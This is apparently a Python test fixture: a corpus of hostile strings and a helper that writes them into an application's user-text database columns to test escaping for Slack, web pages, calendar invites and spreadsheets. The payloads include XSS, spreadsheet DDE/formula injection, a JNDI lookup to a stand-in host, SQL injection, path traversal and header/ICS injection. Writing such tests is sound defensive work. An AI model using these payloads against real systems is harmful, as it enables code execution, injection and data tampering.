"""Hostile texts, each by a name, and where in the database people's words stand. A new one is a line here, and joins every way out."""

from __future__ import annotations

import json
from typing import Any

from sqlalchemy import text
from sqlmodel import SQLModel

from models.store.engine import Database

LONG = 40_000
MOST = 3000
"""The most that any field of any form takes; a column that takes less says so itself."""
CORPUS: dict[str, str] = {
    # what Slack would make something of
    "channel": "<!channel>",
    "here": "Hej <!here> alla",
    "everyone": "<!everyone>",
    "subteam": "<!subteam^S012ABC|@alla>",
    "user": "<@U00000001>",
    "user with a name": "<@U00000001|chefen>",
    "channel link": "<#C0123ABCD>",
    "link": "<https://ond.example|Logga in här>",
    "bare link": "<https://ond.example>",
    "mail link": "<mailto:a@ond.example|skriv>",
    "date": "<!date^1392734382^{date}^https://ond.example|då>",
    "half a link": "<https://ond.example|",
    "closing": "|klicka>",
    "escaped already": "&lt;!channel&gt;",
    "escaped twice": "&amp;lt;!here&amp;gt;",
    "numeric": "&#60;!channel&#62;",
    "bold": "*fet* _lut_ ~struken~ `kod`",
    "fence": "```\nkod\n```",
    "quote": "> citat\n>>> allt",
    "emoji": ":rotating_light: :smile:",
    "list": "• punkt\n1. ett",
    "at channel": "@channel @here @everyone",
    "bare address": "http://ond.example/a?b=c&d=e",
    "angle noise": "a < b > c && d <<!channel>> <",
    "wide angles": "\uff1c!channel\uff1e",
    "split": "<!cha\u200bnnel>",
    "tag in a tag": "<<!here|x>!channel>",
    # what a page or an Outlook event would make something of
    "script": "<script>alert(1)</script>",
    "cell": "</td><script>alert(1)</script>",
    "picture": "<img src=x onerror=alert(1)>",
    "attribute": '" onmouseover="alert(1)',
    "style": "</style><style>*{display:none}",
    "table": "</table></td></tr><table><tr><td>x",
    "comment": "--><!-- <b>",
    "svg": "<svg/onload=alert(1)>",
    "javascript": "javascript:alert(1)",
    "template": "{{ 7*7 }} {% for x in y %}",
    "cdata": "]]><b>x</b>",
    "end of title": "</title><h1>x</h1>",
    "half entity": "&#x3C;script&#x3E;",
    # what a spreadsheet would make something of
    "formula": "=cmd|' /C calc'!A0",
    "hyperlink": '=HYPERLINK("https://ond.example";"x")',
    "plus": "+46 70 000 00 00",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "return": "\r=1+1",
    "apostrophe": "'=1+1",
    "dde": '=DDE("cmd";"/C calc")',
    "quoted": '"=1+1"',
    "semicolons": 'a;b;c";"d',
    # what would be another line, or hidden, or turned
    "lines": "rad 1\nrad 2",
    "windows lines": "rad 1\r\nrad 2",
    "header": "Ämne\r\nBcc: ond@ond.example\r\n\r\nHej",
    "next line": "a\x85b",
    "separators": "a\u2028b\u2029c",
    "form feed": "a\x0b\x0cb",
    "ics": "Möte\nEND:VEVENT\nBEGIN:VEVENT\nSUMMARY:falskt",
    "ics signs": "a,b;c\\n\\Nd\\\\",
    "ics property": "x\r\nATTENDEE:mailto:a@ond.example",
    "nul": "a\0b",
    "control": "a\x01\x02\x07\x08\x1b\x7fb",
    "c1": "a\x80\x9bb\x9d",
    "ansi": "\x1b[31mrött\x1b[0m \x1b]0;titel\x07",
    "override": "\u202egpj.exe",
    "isolates": "\u2066a\u2067b\u2069",
    "zero width": "a\u200bb\u200c\u200d\u2060\ufeffc",
    "tags": "a\U000e0041\U000e0042b",
    "marks": "\u061c\u200e\u200fמ\u05e1פר",
    "rtl name": "אברהם כהן",
    "arabic": "محمد علي",
    "zalgo": "Z" + "\u0335\u0321\u0489" * 40,
    "surrogate": "a\ud800b",
    "astral": "👩‍👩‍👧‍👦🏳️‍🌈",
    # what a program would make something of
    "format": "{format} {0} {name!r} {__class__}",
    "percent": "%s %d %(x)s %n",
    "jndi": "${jndi:ldap://ond.example/a}",
    "json": '","text":"x"},{"type":"divider"}',
    "backslashes": "\\u003c!channel\\u003e \\x00",
    "sql": "'; DROP TABLE question; --",
    "path": "../../etc/passwd",
    "null word": "null",
    "true": "true",
    "number": "1e309",
    "blank": "   ",
    "nothing": "",
    "nbsp": "\u00a0\u2003\u3000",
    # what is too much
    "long word": "å" * LONG,
    "long with signs": "<&>" * (LONG // 3),
    "many lines": "rad\n" * (LONG // 4),
    "long mention": "<!channel> " * (LONG // 11),
    "entity at the edge": "x" * 2995 + "&&&&&<<<<<",
    "title edge": "x" * 145 + "<&>" * 5,
    "emoji row": "👍" * 3000,
}

WORDS: dict[str, tuple[str, ...]] = {
    "question": ("title", "issue", "background", "benefit", "concerned", "why_not_local", "reason", "source_author", "referred_to"),
    "au_answer": ("text", "target"),
    "meeting": ("title", "place", "programme", "cancel_reason"),
    "agenda_item": ("title", "presenter"),
    "guest": ("name",),
    "person": ("name",),
    "letter": ("reason",),
    "chair_extension": ("reason",),
}  # fmt: skip
"""The columns in which people's words stand."""
INSIDE: dict[str, dict[str, tuple[str, ...]]] = {
    "question": {"details": ("concerned_who", "endorsed_by"), "completions": (), "put_off": ()},
    "calendar_event": {"edited": ("place",), "sent": (), "sending": (), "attendees": (), "create_body": ()},
    "letter": {"payload": ("draft",)},
    "journal": {"details": ()},
}
"""The columns that hold JSON with people's words in it, and under which names (none: all that are no code words)."""
OWN: dict[str, frozenset[str]] = {
    "question": frozenset({"number", "body", "principal", "state", "reach", "source", "escalated_why"}),
    "au_answer": frozenset({"office", "answer"}),
    "meeting": frozenset({"body", "kind", "state"}),
    "agenda_item": frozenset({"kind", "state"}),
    "guest": frozenset({"email", "principal"}),
    "person": frozenset({"email", "slack_id"}),
    "letter": frozenset(
        {"key", "kind", "route", "matter", "card", "state", "token", "op", "channel", "ts", "tried_in", "tried_thread"}
    ),
    "calendar_event": frozenset({"state", "stamp", "transaction_id", "graph_id", "change_key"}),
    "journal": frozenset({"actor", "act", "subject", "body", "rule"}),
    "chair_extension": frozenset({"body"}),
}
"""Of the same tables, what is ours: keys, states, addresses, ids."""


def put(database: Database, hostile: str) -> None:
    """Write the text where people's words stand, in every row that has some: what no entrance would let in, too."""
    given = hostile.encode("utf-8", "replace").decode()  # no database takes half a sign
    with database.engine.begin() as connection:
        for table, columns in WORDS.items():
            for column in columns:
                most = getattr(SQLModel.metadata.tables[table].columns[column].type, "length", None) or MOST
                connection.execute(
                    text(f"UPDATE {table} SET {column} = :given WHERE {column} IS NOT NULL"), {"given": given[:most]}
                )
        for number, was in connection.execute(text("SELECT id, payload FROM letter WHERE kind = 'TextAnswer'")).all():
            now = json.loads(was)
            if "draft" in now:
                connection.execute(
                    text("UPDATE letter SET payload = :now WHERE id = :id"),
                    {"now": json.dumps(now | {"draft": given[:MOST]}), "id": number},
                )
        for number, was in connection.execute(text("SELECT id, completions FROM question")).all():
            now = _replaced(json.loads(was), given[:MOST])
            connection.execute(
                text("UPDATE question SET completions = :now WHERE id = :id"), {"now": json.dumps(now), "id": number}
            )
        for number, was in connection.execute(text("SELECT id, put_off FROM question WHERE put_off IS NOT NULL")).all():
            said = json.dumps(dict.fromkeys(json.loads(was), given[:MOST]))
            connection.execute(text("UPDATE question SET put_off = :said WHERE id = :id"), {"said": said, "id": number})


def _replaced(value: Any, given: str) -> Any:
    if isinstance(value, dict):
        return {name: given if name == "answer" else _replaced(one, given) for name, one in value.items()}
    return [_replaced(one, given) for one in value] if isinstance(value, list) else value
